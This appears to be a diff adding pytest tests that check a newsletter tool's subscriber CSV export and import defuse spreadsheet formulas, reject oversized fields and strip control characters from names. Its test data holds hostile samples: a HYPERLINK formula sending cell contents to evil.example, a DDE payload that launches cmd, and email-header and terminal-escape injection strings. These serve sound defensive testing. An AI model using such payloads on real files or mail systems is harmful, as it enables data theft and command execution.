@@ -312,3 +312,143 @@ def test_an_encoded_word_in_a_name_cannot_inject_a_header(demo: Path, confirm_si
     assert "X-Evil" not in msg
     assert len(msg.get_all("Subject")) == 1 and "locked" not in msg["Subject"]
     assert "\n" not in msg["To"].addresses[0].display_name
+
+
+FORMULA_CELLS = {
+    # email → name: formulas of every kind a spreadsheet runs, in both columns
+    "ada@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "=cmd@example.org": "+1+cmd|' /C calc'!A0",
+    "-dash@example.org": "-2+3",
+    "+plus@example.org": "@SUM(A1:A9)",
+    "bob@example.org": "'=already quoted by hand",
+    "carol@example.org": "'quoted' is plain text",
+    "dave@example.org": "Dave O'Neil - editor",
+}
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(
+    demo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for address, name in FORMULA_CELLS.items():
+        added = run("subscribers", "add", demo, f"--name={name}", "--confirmed", "--", address)
+        assert added[0] == 0, added[1]
+    code, out = run("subscribers", "export", demo)
+    rows = list(csv.reader(io.StringIO(out)))[1:]
+    assert len(rows) == len(FORMULA_CELLS)
+    for row in rows:  # no cell starts like a formula (OWASP: = + - @ tab CR)
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
+    by_email = {r[0]: r[1] for r in rows}
+    assert by_email["'=cmd@example.org"] == "'+1+cmd|' /C calc'!A0"
+    assert by_email["ada@example.org"].startswith("'=HYPERLINK(")
+    assert by_email["bob@example.org"] == "''=already quoted by hand"
+    assert by_email["carol@example.org"] == "'quoted' is plain text"
+    assert by_email["dave@example.org"] == "Dave O'Neil - editor"
+
+    run("subscribers", "export", demo, tmp_path / "backup.csv")
+    from masthead.scaffold import copy_demo
+
+    other = tmp_path / "other"
+    copy_demo(other)
+    monkeypatch.setenv("MASTHEAD_DATABASE_URL", f"sqlite:///{tmp_path / 'other.db'}")
+    code, out = run("subscribers", "import", other, tmp_path / "backup.csv", "--confirmed")
+    assert code == 0 and f"Imported {len(FORMULA_CELLS)} address(es)" in out, out
+    store = open_store(load_publication(other))
+    assert {s.email: s.name for s in subs.iter_subscribers(store)} == FORMULA_CELLS
+
+
+@pytest.mark.parametrize(
+    "value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx", "'=x", "''+x", "'", "'x", "x=1", ""]
+)
+def test_spreadsheet_cells_round_trip(value: str) -> None:
+    cell = subs.spreadsheet_safe(value)
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")
+    assert subs.from_spreadsheet(cell) == value
+
+
+HUGE = "x" * 200_000  # over the csv module's 131,072-character field limit
+
+
+def test_an_oversized_csv_field_is_a_bad_row_and_every_bad_row_is_listed(
+    demo: Path, tmp_path: Path
+) -> None:
+    rows = (
+        "email,name\n"
+        "ada@example.org,Ada\n"  # 2
+        f"bob@example.org,{HUGE}\n"  # 3: unquoted field over the limit
+        "carol@example.org,Carol\n"  # 4
+        f'dave@example.org,"{HUGE}"\n'  # 5: quoted field over the limit
+        "not-an-address,X\n"  # 6
+        f"erin@example.org,{'y' * 10_000}\n"  # 7: a name too long to mail
+        "frank@example.org,Frank\n"  # 8
+    )
+    code, out = run(
+        "subscribers", "import", demo, write_csv(tmp_path / "big.csv", rows), "--confirmed"
+    )
+    assert code == 0, out
+    text = " ".join(out.split())
+    assert f"4 row(s) of {tmp_path / 'big.csv'} not imported" in text
+    assert text.count("longer than 131,072 characters, the most a CSV field may hold") == 2
+    assert "the name is 10,000 characters long" in text and "the most is 200" in text
+    reported = [int(m) for m in re.findall(r"│\s+(\d+) │", out)]
+    assert reported == [3, 5, 6, 7]
+    assert "Imported 3 address(es)" in out
+    store = open_store(load_publication(demo))
+    assert sorted(s.email for s in subs.iter_subscribers(store)) == [
+        "ada@example.org",
+        "carol@example.org",
+        "frank@example.org",
+    ]
+
+
+def test_an_oversized_header_row_is_a_clear_error(demo: Path, tmp_path: Path) -> None:
+    path = write_csv(tmp_path / "h.csv", f"email,{HUGE}\nada@example.org\n")
+    code, out = run("subscribers", "import", demo, path, "--confirmed")
+    assert code == 1 and "Traceback" not in out
+    assert f"{path}:1: the header row cannot be read: a field is longer than 131,072" in out
+
+
+@pytest.mark.parametrize("length", [201, 10_000])
+def test_add_refuses_a_name_too_long_to_mail(demo: Path, length: int) -> None:
+    code, out = run(
+        "subscribers", "add", demo, "ada@example.org", "--name", "n" * length, "--confirmed"
+    )
+    assert code == 1 and f"the name is {length:,} characters long" in out
+    assert "shorten the name to 200 characters or fewer" in out
+    assert list(subs.iter_subscribers(open_store(load_publication(demo)))) == []
+    code, out = run(
+        "subscribers", "add", demo, "ada@example.org", "--name", "n" * 200, "--confirmed"
+    )
+    assert code == 0, out
+
+
+NASTY = [
+    "Eve\r\nBcc: evil@example.net",
+    "Eve\x1b[2J\x07",
+    "Eve\u2028Bcc: x",
+    "Eve\u202eX",
+    "\tEve\x00",
+]
+
+
+def test_names_lose_control_characters_from_the_cli_and_an_import(
+    demo: Path, tmp_path: Path
+) -> None:
+    for i, name in enumerate(NASTY):
+        assert (
+            run("subscribers", "add", demo, f"cli{i}@example.org", "--name", name, "--confirmed")[0]
+            == 0
+        )
+    lines = ["email,name"] + [f'csv{i}@example.org,"{name}"' for i, name in enumerate(NASTY)]
+    _, out = run(
+        "subscribers",
+        "import",
+        demo,
+        write_csv(tmp_path / "n.csv", "\n".join(lines)),
+        "--confirmed",
+    )
+    assert f"Imported {len(NASTY)} address(es)" in out, out
+    names = {s.email: s.name for s in subs.iter_subscribers(open_store(load_publication(demo)))}
+    assert len(names) == 2 * len(NASTY)
+    for name in names.values():
+        assert name.startswith("Eve") and name.isprintable(), repr(name)
+    assert names["cli0@example.org"] == names["csv0@example.org"] == "Eve Bcc: evil@example.net"
